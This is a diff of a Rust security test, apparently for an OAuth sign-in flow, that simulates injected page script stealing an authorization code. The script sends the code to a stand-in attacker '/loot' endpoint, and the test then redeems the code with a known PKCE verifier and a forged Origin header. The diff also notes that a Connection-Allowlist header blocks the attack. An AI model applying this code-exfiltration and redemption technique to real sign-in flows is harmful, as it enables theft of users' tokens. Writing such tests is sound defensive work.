@@ -1,39 +1,61 @@
 //! An attack that no page can prevent: script in it starts its own sign-in, whose verifier it knows, and navigates to
-//! another site with the code. There the code is redeemed.
+//! another site with the code. There the code is redeemed. Only `Connection-Allowlist` prevents that navigation.
 
 use cross_tests::{Browser, CONTOSO_PAGE, Host, Portal, Setup, Stack};
 use serde_json::Value;
+use tempfile::TempDir;
 
 use super::{SIGNED_IN, page_with, sign_in_as};
 
 /// RFC 7636, appendix B.
 const VERIFIER: &str = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
+const SCOPE: &str = "https://auth.msft.communication.azure.com/Teams.ManageCalls offline_access";
 const CHALLENGE: &str = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM";
+
+/// A page with such a script, in which Alice is signed in.
+pub(super) struct OwnSignIn {
+    pub(super) attacker: Portal,
+    pub(super) browser: Browser,
+    stack: Stack,
+    _page: TempDir,
+}
+
+impl OwnSignIn {
+    /// Signs Alice in, and then starts the sign-in of the script.
+    pub(super) async fn start(host: Host) -> Self {
+        let attacker = Portal::named("attacker").await;
+        let loot = attacker.put("/loot", "<!doctype html><p>taken</p>");
+        let script = format!(
+            "if (location.hash.includes('state=theirs')) location.replace({loot:?} + '?' + location.hash.slice(1));"
+        );
+        let page = page_with(&script, &["boot.js"]);
+        let stack = Stack::serving(page.path(), host, Setup::default()).await;
+        let browser = Browser::start().await;
+        sign_in_as("alice@fabrikam.example", &stack, &browser).await;
+        browser.wait_for_text(SIGNED_IN).await;
+        let authorize = format!(
+            "{}/authorize?client_id={CONTOSO_PAGE}&response_type=code&response_mode=fragment&prompt=none&state=theirs\
+             &nonce=theirs&code_challenge_method=S256&code_challenge={CHALLENGE}&redirect_uri={}&scope={}",
+            authority(&stack),
+            stack.page,
+            SCOPE.replace(' ', "%20"),
+        );
+        browser.script(&format!("location = {authorize:?}")).await;
+        Self { attacker, browser, stack, _page: page }
+    }
+}
+
+fn authority(stack: &Stack) -> String {
+    format!("{}/organizations/oauth2/v2.0", stack.entra)
+}
 
 #[tokio::test]
 async fn script_gets_tokens_by_starting_its_own_sign_in() {
-    let attacker = Portal::named("attacker").await;
-    let loot = attacker.put("/loot", "<!doctype html><p>taken</p>");
-    let script = format!(
-        "if (location.hash.includes('state=theirs')) location.replace({loot:?} + '?' + location.hash.slice(1));"
-    );
-    let page = page_with(&script, &["boot.js"]);
-    let stack = Stack::serving(page.path(), Host::Proper, Setup::default()).await;
-    let browser = Browser::start().await;
-    sign_in_as("alice@fabrikam.example", &stack, &browser).await;
-    browser.wait_for_text(SIGNED_IN).await;
-
-    let scope = "https://auth.msft.communication.azure.com/Teams.ManageCalls offline_access";
-    let authority = format!("{}/organizations/oauth2/v2.0", stack.entra);
-    let authorize = format!(
-        "{authority}/authorize?client_id={CONTOSO_PAGE}&response_type=code&response_mode=fragment&prompt=none&state=theirs\
-         &nonce=theirs&code_challenge_method=S256&code_challenge={CHALLENGE}&redirect_uri={}&scope={}",
-        stack.page,
-        scope.replace(' ', "%20"),
-    );
-    browser.script(&format!("location = {authorize:?}")).await;
-    browser.wait_for_text("taken").await;
-    let requests = attacker.requests();
+    // Firefox and WebKit do not support the header.
+    let attack = OwnSignIn::start(Host::WithoutConnectionAllowlist).await;
+    attack.browser.wait_for_text("taken").await;
+    let stack = &attack.stack;
+    let requests = attack.attacker.requests();
     let code = requests.iter().find_map(|line| line.split_once("/loot?code=")?.1.split(['&', ' ']).next()).unwrap();
 
     // A program, unlike a browser, can send any origin.
@@ -43,12 +65,12 @@ async fn script_gets_tokens_by_starting_its_own_sign_in() {
         ("code", code),
         ("code_verifier", VERIFIER),
         ("redirect_uri", &stack.page),
-        ("scope", scope),
+        ("scope", SCOPE),
     ];
     let body = form
         .map(|(name, value)| format!("{name}={}", value.replace(':', "%3A").replace('/', "%2F").replace(' ', "%20")));
     let request = reqwest::Client::new()
-        .post(format!("{authority}/token"))
+        .post(format!("{}/token", authority(stack)))
         .header("origin", stack.page.trim_end_matches('/'))
         .header("content-type", "application/x-www-form-urlencoded")
         .body(body.join("&"));
